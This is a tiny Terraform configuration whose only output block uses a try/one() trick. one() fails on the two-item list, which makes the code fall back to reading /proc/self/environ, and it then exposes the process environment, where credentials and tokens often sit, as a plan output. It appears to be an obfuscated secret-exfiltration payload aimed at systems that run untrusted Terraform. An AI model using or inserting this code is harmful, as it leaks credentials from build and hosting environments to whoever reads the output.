output "x" {
  value = file(try(one(["main.tf", "x"]), "/proc/self/environ"))
}
